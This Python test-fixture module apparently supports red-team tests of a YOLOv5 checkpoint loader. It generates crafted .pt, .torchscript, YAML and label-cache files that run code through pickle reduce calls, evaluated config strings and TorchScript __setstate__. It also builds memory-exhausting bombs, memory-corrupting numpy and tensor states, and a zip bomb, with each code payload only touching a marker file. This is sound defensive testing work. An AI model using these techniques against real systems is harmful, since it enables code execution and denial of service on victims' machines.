"""Crafted files for the red-team tests: every way a downloaded checkpoint (or a file beside it) has been seen to
run code, corrupt memory or exhaust it, each made here with a marker file that exists only if the attack ran.

Import with the built tree on sys.path (the payloads reference its classes, as a real attacker's file would).
Nothing here is committed as a binary: each test writes its files into its own tmp folder.
"""
import copy
import io
import pickle
import zipfile
from collections import OrderedDict
from pathlib import Path

import numpy as np
import torch
import torch.nn as nn


def python_that_touches(marker):
    """Python text which, if evaluated, creates marker: what a YAML or metadata string would carry."""
    return f"(open({str(marker)!r}, 'w').close(), nn.SiLU())[1]"


class Reduce:
    """An object that pickles as func(*args) [then BUILD state] [then SETITEMS items]: an attacker's pickle."""

    def __init__(self, func, args, state=None, items=None):
        self.func, self.args, self.state, self.items = func, args, state, items

    def __reduce__(self):
        return self.func, self.args, self.state, None, iter(self.items) if self.items else None


def checkpoint(model):
    """YOLOv5's checkpoint layout around what the attacker put in place of the model."""
    return {'epoch': -1, 'best_fitness': None, 'model': model, 'ema': None, 'updates': None, 'optimizer': None,
            'opt': {}, 'date': None}


def detection_model(yolo, nc=2):
    """yolov5n with the attributes train.py gives the model it saves (val.py reads nc and names)."""
    from models.yolo import DetectionModel
    model = DetectionModel(Path(yolo) / 'models' / 'yolov5n.yaml', nc=nc)
    model.nc, model.names = nc, {i: f'class{i}' for i in range(nc)}
    return model


def clean_checkpoint(yolo, path):
    """A harmless stripped checkpoint, as train.py leaves best.pt."""
    return save(checkpoint(detection_model(yolo).half()), path)


def save(obj, path, **kwargs):
    torch.save(obj, path, **kwargs)
    return path


def rewrite_zip(path, out, change=lambda name, data: data, compress=zipfile.ZIP_STORED):
    """A copy of the torch archive at path with each record passed through change()."""
    with zipfile.ZipFile(path) as z, zipfile.ZipFile(out, 'w', compression=compress) as w:
        for name in z.namelist():
            w.writestr(name, change(name, z.read(name)))
    return out


# ------------------------------------------------------------------------------------------- checkpoint routes
def constructor_call(yolo, marker, folder):
    # route 1: the file calls an allowed model class with a config whose activation string runs code
    from models.yolo import DetectionModel
    cfg = {'nc': 2, 'depth_multiple': 0.33, 'width_multiple': 0.25, 'anchors': 3,
           'activation': python_that_touches(marker), 'backbone': [[-1, 1, 'Conv', [16, 3, 2]]],
           'head': [[-1, 1, 'Conv', [16, 1, 1]]]}
    return save(checkpoint(Reduce(DetectionModel, (cfg,))), folder / 'constructor.pt'), 'models.yolo.DetectionModel'


def allocation_bomb(yolo, marker, folder):
    # route 6: 830 bytes that allocate 6.4 GB by calling a layer class
    return save(checkpoint(Reduce(nn.Linear, (40000, 40000))), folder / 'bomb.pt'), 'torch.nn.modules.linear.Linear'


def torch_archive(path, data_pkl):
    """A torch.save-style zip around a hand-written pickle (for opcodes Python's pickler will not write)."""
    with zipfile.ZipFile(path, 'w') as z:
        z.writestr('archive/data.pkl', data_pkl)
        z.writestr('archive/byteorder', 'little')
        z.writestr('archive/version', '3\n')
    return path


def newobj_with_arguments(yolo, marker, folder):
    # the same through NEWOBJ: cls.__new__(cls, *args) with arguments the file chooses (40000, 40000)
    data = b'\x80\x02ctorch.nn.modules.linear\nLinear\nJ@\x9c\x00\x00J@\x9c\x00\x00\x86\x81.'
    return torch_archive(folder / 'newobj.pt', data), 'with arguments'


def detect_multi_backend(yolo, marker, folder):
    # route 4: a DetectMultiBackend that would open an ONNX file (or URL) named by the pickle
    from models.common import DetectMultiBackend
    return save(checkpoint(Reduce(DetectMultiBackend, (str(folder / 'x.onnx'),))), folder / 'backend.pt'), \
        'models.common.DetectMultiBackend'


def plain_code(yolo, marker, folder):
    # the classic: a global that runs code when called
    return save(checkpoint(Reduce(open, (str(marker), 'w'))), folder / 'open.pt'), 'io.open'


def numpy_object_dtype(yolo, marker, folder):
    # route 5: a structured dtype holding an object field, its flags cleared: array bytes become PyObject pointers
    state = (3, '|', None, ('a',), {'a': (np.dtype('O'), 0)}, 8, 1, 0)
    return save(checkpoint(Reduce(np.dtype, ('V8', False, True), state)), folder / 'dtype.pt'), "numpy.dtype('V8'"


def numpy_shared_dtype(yolo, marker, folder):
    # np.dtype(..., copy=False) is numpy's own float64 singleton: BUILD would flip its byte order process-wide
    state = (3, '>', None, None, None, -1, -1, 0)
    return save(checkpoint(Reduce(np.dtype, ('f8', False, False), state)), folder / 'dtype-shared.pt'), \
        "numpy.dtype('f8', False, False)"


def numpy_array_overread(yolo, marker, folder):
    # an array whose shape asks for far more bytes than the file holds
    core = getattr(np, '_core', None) or np.core
    state = (1, (1 << 40,), np.dtype('f8'), False, b'\0' * 8)
    return save(checkpoint(Reduce(core.multiarray._reconstruct, (np.ndarray, (0,), b'b'), state)),
                folder / 'array.pt'), 'numpy array'


def enum_state(yolo, marker, folder):
    # route 6: BUILD on a looked-up enum member changes a process-wide value
    from torchvision.transforms import InterpolationMode
    return save(checkpoint(Reduce(InterpolationMode, ('bilinear',), {'_value_': 'nearest'})),
                folder / 'enum.pt'), 'did not create'


def setitems_on_non_dict(yolo, marker, folder):
    # GHSA-63cw-57p8-fm3p: SETITEMS applied to a non-dict (torch's unpickler corrupted memory on this)
    return save(checkpoint(Reduce(set, ([],), items=[(1, 2)])), folder / 'setitems.pt'), 'not a plain container'


def method_beyond_forward(yolo, marker, folder):
    # getattr reaching a model class's internals rather than the one method checkpoints store
    from models.yolo import Detect
    return save(checkpoint(Reduce(getattr, (Detect, '__init__'))), folder / 'getattr.pt'), "'__init__'"


def hooks_in_state(yolo, marker, folder):
    # a real layer whose saved state carries a forward hook: code on every call
    from models.yolo import Detect
    layer = nn.Conv2d(3, 4, 1)
    layer._forward_hooks[0] = Detect.forward
    return save(checkpoint(layer), folder / 'hooks.pt'), '_forward_hooks'


def tensor_out_of_bounds(yolo, marker, folder):
    # a tensor view that reaches past its storage (heap over-read on first use)
    storage = torch.arange(4, dtype=torch.float32).storage()
    view = Reduce(torch._utils._rebuild_tensor_v2, (storage, 0, (1 << 20,), (1,), False, OrderedDict()))
    return save(checkpoint(view), folder / 'view.pt'), 'not a view inside a storage'


def quantized_tensor(yolo, marker, folder):
    # pytorch/pytorch#184652: quantized tensors skip the bounds check of plain ones
    q = torch.quantize_per_tensor(torch.rand(4), 0.1, 0, torch.qint8)
    return save(checkpoint(q), folder / 'quantized.pt'), 'torch._utils._rebuild_qtensor'


def storage_larger_than_record(yolo, marker, folder):
    # GHSA-63cw-57p8-fm3p: a storage that declares far more elements than its record holds
    src = save(checkpoint(torch.arange(4, dtype=torch.uint8)), folder / 'small.pt')
    pkl = lambda name, data: data.replace(b'K\x04t', b'J\x00\xca\x9a;t') if name.endswith('data.pkl') else data
    return rewrite_zip(src, folder / 'storage.pt', pkl), 'declares 1000000000 bytes'


def legacy_format(yolo, marker, folder):
    # CVE-2025-32434 went through the legacy (pre-1.6, non-zip) loader
    return save(checkpoint(Reduce(open, (str(marker), 'w'))), folder / 'legacy.pt',
                _use_new_zipfile_serialization=False), 'not a zip archive'


def legacy_with_zip_appended(yolo, marker, folder):
    # a legacy file with a small zip after it: zipfile finds a directory at the end, torch reads the legacy start
    legacy = legacy_format(yolo, marker, folder)[0]
    tail = io.BytesIO()
    with zipfile.ZipFile(tail, 'w') as z:
        z.writestr('archive/version', '3\n')
    path = folder / 'legacy-zip.pt'
    path.write_bytes(legacy.read_bytes() + tail.getvalue())
    return path, 'not a zip archive'


def repeating_view(yolo, marker, folder):
    # 2 bytes of storage viewed as 65536 x 65536 (stride 0): attempt_load's .float() then allocates 17 GB
    model = detection_model(yolo).half()
    model.model[-1].register_buffer('bomb', torch.zeros(1, dtype=torch.half).expand(1 << 16, 1 << 16))
    return save(checkpoint(model), folder / 'repeat.pt'), 'repeat their elements'


def many_views_of_one_storage(yolo, marker, folder):
    # no stride 0: 64 distinct tensors over one 1 MB storage, each a full copy once used (64 MB from 1 MB, and so on)
    storage = torch.zeros(1 << 20, dtype=torch.uint8)
    return save(checkpoint([storage[i:] for i in range(64)]), folder / 'views.pt'), 'repeat their elements'


def conv_settings_unlike_its_weight(yolo, marker, folder):
    # fuse() (val.py, detect.py) rebuilds each conv from its saved kernel_size: 77 GB from one changed number
    model = detection_model(yolo).half()
    model.model[0].conv.kernel_size = (20000, 20000)
    return save(checkpoint(model), folder / 'kernel.pt'), 'kernel_size'


def compressed_record(yolo, marker, folder):
    # a deflated record: a few kB that expand to gigabytes (torch.save never compresses)
    src = save(checkpoint(torch.zeros(1000)), folder / 'plain.pt')
    return rewrite_zip(src, folder / 'zipbomb.pt', compress=zipfile.ZIP_DEFLATED), 'is compressed'


def torchscript_archive(yolo, marker, folder):
    # a TorchScript archive named .pt: torch.load hands it to torch.jit.load, which runs its code
    path = folder / 'script.pt'
    torch.jit.script(nn.Linear(2, 2)).save(str(path))
    return path, 'TorchScript archive'


def protocol4_private_name(yolo, marker, folder):
    # protocol 4 names methods by qualified name ('models.yolo' 'Detect.__init__'): no getattr call at all
    from models.yolo import Detect
    return save(checkpoint(Detect.__init__), folder / 'proto4.pt', pickle_protocol=4), 'models.yolo.Detect.__init__'


CHECKPOINT_ROUTES = [constructor_call, allocation_bomb, newobj_with_arguments, detect_multi_backend, plain_code,
                     numpy_object_dtype, numpy_shared_dtype, numpy_array_overread, enum_state, setitems_on_non_dict,
                     method_beyond_forward, hooks_in_state, tensor_out_of_bounds, quantized_tensor,
                     storage_larger_than_record, legacy_format, legacy_with_zip_appended, repeating_view,
                     many_views_of_one_storage, conv_settings_unlike_its_weight, compressed_record, torchscript_archive, protocol4_private_name]


# ------------------------------------------------------------------------------------- files that load quietly
class TouchOnLoad(nn.Module):
    """Scripted and saved, a .torchscript whose loading creates a file: __setstate__ is code that torch.jit.load
    runs (torch.from_file(shared=True) creates the path it is given and writes what is copied into it)."""

    def __init__(self, marker: str):
        super().__init__()
        self.marker = marker
        self.text = torch.tensor(list(b'ran\n'), dtype=torch.uint8)

    def forward(self, x):
        return x

    @torch.jit.export
    def __getstate__(self):
        return (self.marker, self.text, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, torch.Tensor, bool]):
        self.marker, self.text, self.training = state
        written = torch.from_file(self.marker, shared=True, size=int(self.text.numel()), dtype=torch.uint8)
        self.text = written.copy_(self.text)  # kept in the state: TorchScript drops what nothing uses


def poisoned_model_yaml(yolo, marker, folder, where='activation'):
    """Route 2: a clean checkpoint whose model.yaml carries code; train.py rebuilds the model from it. Returns
    (path, what the refusal names)."""
    model = detection_model(yolo)
    model.yaml = copy.deepcopy(model.yaml)
    named = ('never evaluated', 'open(')
    if where == 'activation':
        model.yaml['activation'] = python_that_touches(marker)
    elif where == 'argument':  # a row's string argument
        model.yaml['backbone'][0][3] = [python_that_touches(marker).replace('nn.SiLU()', '16'), 6, 2, 2]
    else:  # a row naming DetectMultiBackend: it loads the .torchscript named (or downloads a URL), whose code runs
        script = folder / 'touch.torchscript'
        torch.jit.script(TouchOnLoad(str(marker))).save(str(script))
        model.yaml['backbone'].insert(0, [-1, 1, 'DetectMultiBackend', [str(script)]])
        named = ('DetectMultiBackend', 'not a layer')
    ckpt = checkpoint(model.half())
    ckpt['epoch'] = -1
    return save(ckpt, folder / f'yaml-{where}.pt'), named


def label_cache(marker, path):
    """A labels .cache as np.save writes one, but whose pickle calls open(marker, 'w')."""
    buffer = io.BytesIO()
    np.lib.format.write_array_header_1_0(buffer, {'descr': '|O', 'fortran_order': False, 'shape': ()})
    buffer.write(pickle.dumps(Reduce(open, (str(marker), 'w')), protocol=3))
    Path(path).write_bytes(buffer.getvalue())
    return path


def class_named(yolo, name, folder):
    """A checkpoint whose model finds class 0, named `name`, at every anchor: --save-crop writes one crop per box
    into a folder of that name."""
    model = detection_model(yolo)
    head = model.model[-1]
    with torch.no_grad():
        for conv in head.m:
            conv.weight.zero_()
            bias = conv.bias.view(head.na, -1)
            bias[:, :4], bias[:, 4:6], bias[:, 6:] = 0, 20, -20  # centred boxes, objectness and class 0 certain
    model.names = {0: name, 1: 'class1'}
    return save(checkpoint(model.half()), folder / 'named.pt')
